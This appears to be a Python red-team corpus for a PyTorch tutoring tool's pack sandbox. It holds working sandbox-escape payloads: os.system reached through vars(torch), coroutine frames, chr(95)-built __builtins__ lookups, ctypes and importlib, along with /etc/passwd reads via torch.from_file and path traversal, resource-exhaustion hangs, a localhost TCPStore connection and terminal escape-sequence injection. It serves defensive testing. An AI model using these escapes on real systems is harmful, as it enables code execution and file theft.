"""Red-team corpus for packs, the held-out half: measured, never tuned on.

Every attack here was written in full before any of them was run against the tool, and none was
changed after its result was seen; the harness only reports on them. They go after the same
promises as the tuning half (redteam_pack_tune.py) through other doors: other ways past the
attribute guard (a module's __dict__ through vars(), a star import, a coroutine's frame, the
builtins found through globals()), other places pack code lives (a forward line of the forward
file, a function step's `draw`, an exercise's extra forward lines, [training.eval] through
torch.from_file, a catalogued mistake's message, the training baseline's label), native code and
processes (ctypes, DataLoader workers, a C-level computation the interpreter cannot interrupt),
network from C++ (TCPStore), exercise files that are a device or lie outside the pack, and names
that NFKC folds, raw escapes in comments and a megabyte-long title.

Format as in the tuning half: "kind", "command" (and "step", "code" for check), "goal", and
"file", or "base" with "edit"/"append". Success shows as /tmp/redteam_pwned_<name>, a printed
PWNED-<name> (assembled at run time), a connection to 127.0.0.1:47931 or a leaked secret; see
/tmp/rt/harness.py for what else counts.
"""
from __future__ import annotations

import textwrap

# -- helpers: the texts the attacks start from ------------------------------------------------


def _indent(code: str) -> str:
    return textwrap.indent(textwrap.dedent(code).strip("\n"), "    ") + "\n" if code else ""


def _fwd(setup_pre: str = "", batch_pre: str = "", top: str = "",
         doc: str = '"""A small classifier, one linear layer."""') -> str:
    """A forward file `pack new` accepts, with code put before setup's and batch's bodies."""
    return (
        f"{doc}\n"
        "import torch\n"
        "import torch.nn.functional as F\n"
        f"{top}\n"
        "n_in = 6\n"
        "n_classes = 3\n\n\n"
        "def setup(seed):\n"
        f"{_indent(setup_pre)}"
        "    g = torch.Generator().manual_seed(seed)\n"
        '    return {"W": torch.randn((n_in, n_classes), generator=g) / 3}\n\n\n'
        "def batch(n, seed):\n"
        f"{_indent(batch_pre)}"
        "    g = torch.Generator().manual_seed(seed)\n"
        '    return {"X": torch.randn((n, n_in), generator=g),\n'
        '            "Y": torch.randint(0, n_classes, (n,), generator=g)}\n\n\n'
        "def forward(X, Y, W):\n"
        "    logits = X @ W\n"
        "    loss = F.cross_entropy(logits, Y)\n"
        "    return loss\n"
    )


_MLP_SETUP = '''
import torch


def make_data(text, sizes):
    g = torch.Generator().manual_seed(1)
    teacher = torch.randn((6, 5), generator=g)
    made = {}
    for split in ("train", "val", "test"):
        X = torch.randn((512, 6), generator=g)
        made[split] = (X, (X @ teacher).argmax(1))
    return made


def init_params(g, sizes):
    return {
        "W1": torch.randn((6, 16), generator=g) / 6 ** 0.5,
        "b1": torch.randn(16, generator=g) * 0.1,
        "W2": torch.randn((16, 5), generator=g) / 4,
        "b2": torch.randn(5, generator=g) * 0.1,
    }


def sample_batch(X, Y, batch_size, g):
    ix = torch.randint(0, X.shape[0], (batch_size,), generator=g)
    return X[ix], Y[ix]
'''

_MLP_FORWARD = '''hpre = Xb @ W1 + b1
h = torch.tanh(hpre)
logits = h @ W2 + b2
loss = F.cross_entropy(logits, Yb)
'''


def _pack_toml(setup_extra: str = "", pack_extra: str = "",
               exercises: str = '["01_lines.toml", "02_training.toml"]') -> str:
    """pack.toml of the mlp pack (tests/packs/forward/mlp.py), with a short setup of the same
    network and `setup_extra` run at its end."""
    return f'''[pack]
schema = 1
id = "mlp"
title = "A two-layer classifier"
{pack_extra}
exercises = {exercises}

[lesson]
n_in = 6
n_hidden = 16
n_classes = 5
batch_size = 32
heldout_batch_size = 17

[setup]
code = \'\'\'{_MLP_SETUP}
{textwrap.dedent(setup_extra).strip()}
\'\'\'

[forward]
loss = "loss"
code = \'\'\'
{_MLP_FORWARD}\'\'\'
'''


_EVAL = '''
CHUNK = 1024


def evaluate(params, state, X, Y):
    total, count = 0.0, 0
    for i in range(0, X.shape[0], CHUNK):
        Xb, Yb = X[i:i + CHUNK], Y[i:i + CHUNK]
        total += float(forward_loss(params, Xb, Yb)) * Xb.shape[0]
        count += Xb.shape[0]
    return total / count
'''


def _training_toml(eval_code: str = _EVAL, extra: str = "") -> str:
    """02_training.toml of the mlp pack with its evaluation code replaced."""
    return f'''[exercise]
number = 2
title = "Train it on your gradients"
kind = "training"
intro = "Your backward pass, every step of it, drives gradient descent."

[training]
steps = 1000
lr = 0.1
lr_decay_step = 0.75
lr_after_decay = 0.01
gradcheck_steps = 10
samples = 0
cpu_threads = 1
batch_size = 32
backward = ["mlp/logits", "mlp/h", "mlp/hpre", "mlp/W1"]
loss = "loss = F.cross_entropy(logits, Yb)"
{extra}

[training.eval]
code = \'\'\'
{textwrap.dedent(eval_code).strip()}
\'\'\'

[[steps]]
id = "mlp/train"
title = "Training loop"
lines = ["loss"]
checks = ["W1", "b1", "W2", "b2"]
explanation = "Each step runs your backward pass and moves every parameter against its gradient."
hints = [
    "Nothing new to derive: your earlier steps are the backward pass.",
    "Every gradient must have its parameter's shape.",
    "If the gradient check fails, go back to the step that computes that parameter's gradient.",
]
'''


_DLOGITS = "dlogits = (F.softmax(logits, 1) - F.one_hot(Yb, n_classes)) / n"

# -- the attacks ------------------------------------------------------------------------------

_FN_EXERCISE = """[exercise]
number = 2
title = "A function"
kind = "function"
requires = []

[[steps]]
id = "mlp/fn"
title = "tanh_backward"
lines = ["h"]
call = "dx = tanh_backward(dout, out)"
checks = ["dx"]
lesson = '''
dout = grad("h")
out = h
'''
draw = '''
u = chr(95) * 2
space = globals()[u + "builtins" + u]
imp = space[u + "import" + u] if isinstance(space, dict) else getattr(space, u + "import" + u)
imp("os").system("touch /tmp/redteam_pwned_pack_function_draw_builtins; "
                 "echo PW''NED-pack_function_draw_builtins")
B = int(torch.randint(2, 6, (1,), generator=g))
H = int(torch.randint(3, 9, (1,), generator=g))
out = torch.tanh(torch.randn((B, H), generator=g))
dout = torch.randn((B, H), generator=g)
'''
expect = '''
dx = (1 - out ** 2) * dout
'''
template = '''def tanh_backward(dout, out):
    ...
    return dx'''
solution = '''def tanh_backward(dout, out):
    return (1 - out ** 2) * dout'''
explanation = "The derivative of tanh, as a function."
hints = ["tanh' = 1 - tanh**2", "out is tanh's output", "multiply by dout"]
"""

_FUSED_EXERCISE = """[exercise]
number = 2
title = "Cross-entropy in one go"
requires = []
forward = '''
loss_fast = F.cross_entropy(logits, Yb) + 0 * len(str(torch.builtins.open("/tmp/redteam_pwned_pack_exercise_forward_open", "w")))
'''

[[steps]]
id = "mlp/fused"
title = "dlogits, fused"
lines = ["loss_fast"]
checks = ["logits"]
target = "loss_fast"
template = "dlogits = ..."
solution = "dlogits = (F.softmax(logits, 1) - F.one_hot(Yb, n_classes)) / n"
explanation = "Cross-entropy's gradient in one line."
hints = ["softmax minus one-hot", "divide by n", "dlogits is [32, 5]"]
"""

_MISTAKE_OSC52 = """
[[steps.mistakes]]
code = '''
dW1 = Xb.T @ dhpre * 3
db1 = dhpre.sum(0)
'''
kind = "known_mistake"
tensor = "W1"
message = "Scaled by three. \\u001b]52;c;cHduZWQ=\\u0007 \\u202eexe.txt \\u001b[8mhidden\\u001b[0m \\u0085"
"""

_HUGE = "h" + "x" * 300_000

ATTACKS: dict[str, dict] = {
    "fwd_vars_module_dict": {
        "kind": "forward",
        "command": "pack new",
        "goal": "read torch's module __dict__ with vars() (a subscript, not an attribute) and "
                "call os.system from batch()",
        "file": _fwd(batch_pre="""
            vars(torch)["os"].system("touch /tmp/redteam_pwned_fwd_vars_module_dict; "
                                     "echo PW''NED-fwd_vars_module_dict")
        """),
    },
    "fwd_star_import_importlib": {
        "kind": "forward",
        "command": "pack new",
        "goal": "import trick: `from torch.nn.functional import *` brings F's own importlib "
                "into scope; setup imports subprocess with it and spawns touch",
        "file": _fwd(top="from torch.nn.functional import *\n", setup_pre="""
            importlib.import_module("subprocess").run(
                ["touch", "/tmp/redteam_pwned_fwd_star_import_importlib"])
            print("PW" + "NED-fwd_star_import_importlib")
        """),
    },
    "fwd_c_level_burn": {
        "kind": "forward",
        "command": "pack new",
        "goal": "hang pack new with one C-level computation (pow(3, 10**9)) that no "
                "Python-level timer can interrupt",
        "file": _fwd(setup_pre="""
            big = pow(3, 10 ** 9)
        """),
    },
    "fwd_nfkc_names": {
        "kind": "forward",
        "command": "pack new",
        "goal": "names that NFKC folds (the ligature ﬁ, fullwidth ｈ, ℎ) differ from the dict "
                "keys and the source text: a pack that does not load, or lines that collide",
        "file": '''"""Names that NFKC folds."""
import torch
import torch.nn.functional as F

n_in = 6
n_classes = 3


def setup(seed):
    g = torch.Generator().manual_seed(seed)
    return {"ﬁ": torch.randn((n_in, 8), generator=g) / 3,
            "W": torch.randn((8, n_classes), generator=g) / 3}


def batch(n, seed):
    g = torch.Generator().manual_seed(seed)
    return {"X": torch.randn((n, n_in), generator=g),
            "Y": torch.randint(0, n_classes, (n,), generator=g)}


def forward(X, Y, ﬁ, W):
    ｈ = torch.tanh(X @ ﬁ)
    ℎ2 = ｈ * 2
    logits = ℎ2 @ W
    loss = F.cross_entropy(logits, Y)
    return loss
''',
    },
    "fwd_raw_escape_comment": {
        "kind": "forward",
        "command": "pack new",
        "goal": "raw ESC/BEL/RLO/NEL bytes in the docstring and in comments on forward lines "
                "reach the terminal when the pack lists its lines, or break the TOML",
        "file": _fwd(doc='"""Raw \x1b[31mred\x1b[0m title \u202eflip\x07 \x85"""').replace(
            "    logits = X @ W\n",
            "    logits = X @ W  # \x1b]0;owned\x07\x1b[2J \u202etxt.exe\n").replace(
            "    loss = F.cross_entropy(logits, Y)\n",
            "    loss = F.cross_entropy(logits, Y)  # \x1b]52;c;cHduZWQ=\x07 \x9b2J\n"),
    },
    "fwd_huge_names": {
        "kind": "forward",
        "command": "pack new",
        "goal": "very long names: a 300 000-character identifier and a one-line 1 MB docstring "
                "(the title) make pack new hang, crash, or refuse in a line a megabyte long",
        "file": ('"""' + "A" * 1_000_000 + '"""\n'
                 "import torch\nimport torch.nn.functional as F\n\nn_in = 6\nn_classes = 3\n\n\n"
                 "def setup(seed):\n    g = torch.Generator().manual_seed(seed)\n"
                 '    return {"W": torch.randn((n_in, 8), generator=g) / 3,\n'
                 '            "V": torch.randn((8, n_classes), generator=g) / 3}\n\n\n'
                 "def batch(n, seed):\n    g = torch.Generator().manual_seed(seed)\n"
                 '    return {"X": torch.randn((n, n_in), generator=g),\n'
                 '            "Y": torch.randint(0, n_classes, (n,), generator=g)}\n\n\n'
                 "def forward(X, Y, W, V):\n"
                 f"    {_HUGE} = torch.tanh(X @ W)\n"
                 f"    logits = {_HUGE} @ V\n"
                 "    loss = F.cross_entropy(logits, Y)\n    return loss\n"),
    },
    "fwd_dataloader_fork": {
        "kind": "forward",
        "command": "pack new",
        "goal": "spawn processes: a DataLoader with two workers forks from setup",
        "file": _fwd(setup_pre="""
            loader = torch.utils.data.DataLoader(list(range(4)), batch_size=2, num_workers=2)
            got = [b for b in loader]
            print("PW" + "NED-fwd_dataloader_fork", len(got))
            raise RuntimeError("PW" + "NED-fwd_dataloader_fork: worker processes ran")
        """),
    },
    "fwd_forward_line_ctypes": {
        "kind": "forward",
        "command": "pack new",
        "goal": "native code from a forward line: torch.ctypes.CDLL(None).system, in the line "
                "pack new runs on the batch and copies into the pack's forward code",
        "file": _fwd().replace(
            "    logits = X @ W\n",
            '    logits = X @ W + 0 * torch.ctypes.CDLL(None).system(b"touch '
            "/tmp/redteam_pwned_fwd_forward_line_ctypes; "
            "echo PW''NED-fwd_forward_line_ctypes\")\n"),
    },
    "pack_coroutine_frame_builtins": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/logits",
        "code": _DLOGITS,
        "goal": "walk out of setup code through a running coroutine's cr_frame.f_back to the "
                "engine's frames and their real builtins' __import__, then os.system",
        "edit": {"pack.toml": _pack_toml(setup_extra="""
            def grab():
                u = chr(95) * 2
                found = []

                async def probe():
                    fr = holder[0].cr_frame.f_back
                    while fr is not None:
                        imp = fr.f_builtins.get(u + "import" + u)
                        if imp is not None:
                            found.append(imp)
                        fr = fr.f_back

                holder = [probe()]
                try:
                    holder[0].send(None)
                except StopIteration:
                    pass
                for imp in found:
                    try:
                        imp("os").system("touch /tmp/redteam_pwned_pack_coroutine_frame_builtins; "
                                         "echo PW''NED-pack_coroutine_frame_builtins")
                        return
                    except Exception:
                        pass


            grab()
        """)},
    },
    "pack_tcpstore_network": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "pack check",
        "goal": "network from C++: torch.distributed.TCPStore connects to 127.0.0.1:47931 from "
                "setup code, below any Python-level hook",
        "edit": {"pack.toml": _pack_toml(setup_extra="""
            try:
                torch.distributed.TCPStore("127.0.0.1", 47931, 2, False)
            except Exception:
                pass
        """)},
    },
    "pack_from_file_read_write": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "train",
        "goal": "read /etc/passwd and create a file in /tmp from [training.eval] code through "
                "torch.from_file (mmap, no open())",
        "edit": {"02_training.toml": _training_toml(textwrap.dedent("""
            wrote = False
            try:
                w = torch.from_file("/tmp/redteam_pwned_pack_from_file_read_write", True, 16,
                                    dtype=torch.uint8)
                w.fill_(65)
                wrote = True
            except Exception:
                pass
            seen = ""
            try:
                raw = torch.from_file("/etc/passwd", False, 32, dtype=torch.uint8)
                seen = "".join(chr(c) for c in raw.tolist())
            except Exception:
                pass
            if wrote or seen:
                raise RuntimeError("PW" + "NED-pack_from_file_read_write " + seen)
        """) + _EVAL)},
    },
    "pack_mistake_osc52": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/W1",
        "code": "dW1 = Xb.T @ dhpre * 3\ndb1 = dhpre.sum(0)",
        "goal": "a catalogued mistake's message with OSC 52 (clipboard write), RLO, hidden text "
                "and NEL is shown raw when a learner makes that mistake",
        "append": {"01_lines.toml": _MISTAKE_OSC52},
    },
    "pack_baseline_escape": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "train",
        "goal": "escape sequences in [training] baseline, the label train prints beside the "
                "losses, reach the terminal",
        "edit": {"02_training.toml": _training_toml(extra=(
            'baseline = "lecture\\u001b[2J\\u001b]0;owned\\u0007\\u202eflip"\n'
            "lecture_train_loss = 2.0\nlecture_val_loss = 2.1"))},
    },
    "pack_exercises_dev_zero": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/logits",
        "code": _DLOGITS,
        "goal": "an exercise file that is /dev/zero: reading it never ends and eats memory in "
                "the tutor's own process",
        "edit": {"pack.toml": _pack_toml(exercises='["01_lines.toml", "/dev/zero"]')},
    },
    "pack_exercises_passwd": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "pack check",
        "goal": "an exercise file outside the pack (../ up to /etc/passwd) is read, and its "
                "text shown in the parse error",
        "edit": {"pack.toml": _pack_toml(
            exercises='["01_lines.toml", "' + "../" * 12 + 'etc/passwd"]')},
    },
    "pack_function_draw_builtins": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/fn",
        "code": "def tanh_backward(dout, out):\n    return (1 - out ** 2) * dout",
        "goal": "a function step's `draw` code takes __import__ from globals()['__builtins__'] "
                "(names built with chr(95)) and runs os.system",
        "edit": {"02_training.toml": _FN_EXERCISE},
    },
    "pack_exercise_forward_open": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/fused",
        "code": _DLOGITS,
        "goal": "write a file from an exercise's extra forward line through torch.builtins.open",
        "edit": {"02_training.toml": _FUSED_EXERCISE},
    },
}
